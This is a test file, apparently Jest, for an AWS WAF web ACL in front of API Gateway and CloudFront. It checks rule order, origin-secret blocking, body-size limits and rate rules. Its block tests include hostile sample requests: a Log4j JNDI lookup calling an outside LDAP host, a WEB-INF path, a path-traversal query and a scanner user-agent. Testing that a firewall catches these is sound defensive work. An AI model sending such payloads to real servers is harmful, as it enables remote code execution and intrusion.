import { judge } from '../../support/firewall.ts';
import { shown, TWO_SERVERS, templateFor } from '../template.ts';
import { type PartialRequest, type WebAcl, webAcl } from './web-acl.ts';

let web: WebAcl;
beforeAll(async () => {
  web = await webAcl();
});

describe('The web ACL (#242)', () => {
  it('is regional, protects every stage, and starts once CloudFront sends the origin secret', () => {
    expect(web.template.ofType('AWS::WAFv2::WebACL')).toHaveLength(1);
    expect(web.acl).toMatchObject({ Scope: 'REGIONAL', DefaultAction: { Allow: {} } });
    const stages = web.template.ofType('AWS::ApiGateway::Stage').map(([logicalId]) => logicalId);
    const associations = web.template.ofType('AWS::WAFv2::WebACLAssociation');
    expect(stages).toHaveLength(3);
    for (const stage of stages) {
      expect(
        associations.filter(([, { Properties }]) => shown(Properties.ResourceArn).endsWith(`/stages/<${stage}>`)),
      ).toHaveLength(1);
    }
    const [[distribution] = ['']] = web.template.ofType('AWS::CloudFront::Distribution');
    for (const [, { DependsOn }] of associations) expect(DependsOn).toContain(distribution);
  });

  it('has these rules in this order', () => {
    expect(
      web.acl.Rules.map(({ Name, Priority, Action, OverrideAction }: Record<string, object>) => [
        Priority,
        Name,
        Object.keys(Action ?? OverrideAction ?? {}),
      ]),
    ).toEqual([
      [0, 'NotThroughCloudFront', ['Block']],
      [1, 'LargeBody', ['Block']],
      [2, 'Common', ['None']],
      [3, 'KnownBadInputs', ['None']],
      [4, 'ServersKnownBadInputs', ['None']],
      [5, 'PagesPerViewer', ['Block']],
      [6, 'WithoutTokenPerViewer', ['Block']],
    ]);
  });

  it('keeps no samples of requests, because they contain tokens and codes', () => {
    for (const { VisibilityConfig } of [web.acl, ...web.acl.Rules])
      expect(VisibilityConfig.SampledRequestsEnabled).toBe(false);
  });

  it('"firewall": false removes it, and CloudFront still sends the origin secret', async () => {
    const without = await templateFor({ ...TWO_SERVERS, firewall: false });
    expect(without.text).not.toContain('AWS::WAFv2');
    const { Origins } = without.ofType('AWS::CloudFront::Distribution')[0]?.[1].Properties.DistributionConfig ?? {};
    for (const { OriginCustomHeaders } of Origins) expect(OriginCustomHeaders).toHaveLength(1);
  });
});

describe('A request that bypasses CloudFront (#118)', () => {
  it.each(['/mcp', '/tools/mcp', '/token', '/authorize', '/.well-known/jwks.json'])(
    'to %s is blocked without the origin secret and with a wrong one',
    (path) => {
      const { 'x-gatehouse-origin': _, ...headers } = web.through({ path }).headers;
      expect(judge(web.acl.Rules, { ...web.through({ path }), headers }).blockedBy).toBe('NotThroughCloudFront');
      const forged = { ...headers, 'x-gatehouse-origin': 'guessed', 'x-gatehouse-viewer': '198.51.100.1' };
      expect(judge(web.acl.Rules, { ...web.through({ path }), headers: forged }).blockedBy).toBe(
        'NotThroughCloudFront',
      );
      expect(web.verdict({ path }).blockedBy).toBeUndefined();
    },
  );

  it('cannot know the origin secret: CloudFront sends it to every API, and the template only refers to it', () => {
    const { Origins } =
      web.template.ofType('AWS::CloudFront::Distribution')[0]?.[1].Properties.DistributionConfig ?? {};
    expect(Origins).toHaveLength(3);
    for (const { OriginCustomHeaders } of Origins) {
      expect(OriginCustomHeaders).toEqual([{ HeaderName: 'x-gatehouse-origin', HeaderValue: expect.anything() }]);
      expect(shown(OriginCustomHeaders[0].HeaderValue)).toMatch(
        /^\{\{resolve:secretsmanager:<GatehouseFrontDoorOriginSecret[0-9A-F]{8}>:SecretString\}\}$/,
      );
    }
  });
});

describe('The firewall blocks', () => {
  const LOG4J = '${' + 'jndi:ldap://example.com/}';
  it.each<[string, string, PartialRequest]>([
    ['more than 32 KB (#60)', 'LargeBody', { method: 'POST', path: '/token', body: 'x'.repeat(32_769) }],
    ['Log4j in a header', 'KnownBadInputs/Log4JRCE_HEADER', { path: '/authorize', headers: { 'x-any': LOG4J } }],
    ['Log4j in a body', 'KnownBadInputs/Log4JRCE_BODY', { method: 'POST', path: '/register', body: LOG4J }],
    [
      'Log4j in a header to a server',
      'ServersKnownBadInputs/Log4JRCE_HEADER',
      { path: '/mcp', headers: { 'x-any': LOG4J } },
    ],
    ['a path of Java servers', 'KnownBadInputs/ExploitablePaths_URIPATH', { path: '/WEB-INF/web.xml' }],
    ['PROPFIND', 'ServersKnownBadInputs/PROPFIND_METHOD', { method: 'PROPFIND', path: '/mcp' }],
    ['a scanner', 'Common/UserAgent_BadBots_HEADER', { path: '/authorize', headers: { 'user-agent': 'Nmap' } }],
    ['a way out of a folder', 'Common/GenericLFI_QUERYARGUMENTS', { path: '/authorize', query: 'state=..%2F..%2Fx' }],
  ])('%s', (_what, rule, request) => {
    expect(web.verdict(request).blockedBy).toBe(rule);
  });

  it('a body of more than 32 KB, but not of exactly 32 KB', () => {
    expect(web.verdict({ method: 'POST', path: '/consent', body: 'x'.repeat(32_768) }).blockedBy).toBeUndefined();
    expect(web.acl.AssociationConfig).toEqual({
      RequestBody: { API_GATEWAY: { DefaultSizeInspectionLimit: 'KB_32' } },
    });
  });
});

describe('Rate rules', () => {
  it("use the viewer's address from CloudFront, never X-Forwarded-For", () => {
    const rates = web.acl.Rules.flatMap(
      ({ Statement }: { Statement: Record<string, object> }) => Statement.RateBasedStatement ?? [],
    );
    expect(rates).toHaveLength(2);
    for (const rate of rates) {
      expect(rate).toMatchObject({
        AggregateKeyType: 'FORWARDED_IP',
        ForwardedIPConfig: { HeaderName: 'x-gatehouse-viewer', FallbackBehavior: 'NO_MATCH' },
        EvaluationWindowSec: 300,
      });
    }
    expect(web.template.text.toLowerCase()).not.toContain('x-forwarded-for');
  });

  it.each([
    ['GET', '/authorize', 'PagesPerViewer'],
    ['POST', '/consent', 'PagesPerViewer'],
    ['GET', '/callback/company', 'PagesPerViewer'],
    ['POST', '/mcp', 'WithoutTokenPerViewer'],
    ['GET', '/mcp/more', 'WithoutTokenPerViewer'],
  ])('count %s %s with %s', (method, path, rule) => {
    expect(web.verdict({ method, path }).rated).toEqual([rule]);
  });

  it.each([
    ['POST', '/register', {}],
    ['POST', '/token', {}],
    ['POST', '/revoke', {}],
    ['GET', '/.well-known/oauth-authorization-server', {}],
    ['POST', '/mcp', { authorization: 'Bearer eyJ.a.token' }],
    ['POST', '/tools/mcp', { authorization: 'bearer eyJ.a.token' }],
  ])('do not count %s %s, because users of hosted clients share addresses (#172)', (method, path, headers) => {
    expect(web.verdict({ method, path, headers }).rated).toEqual([]);
  });
});
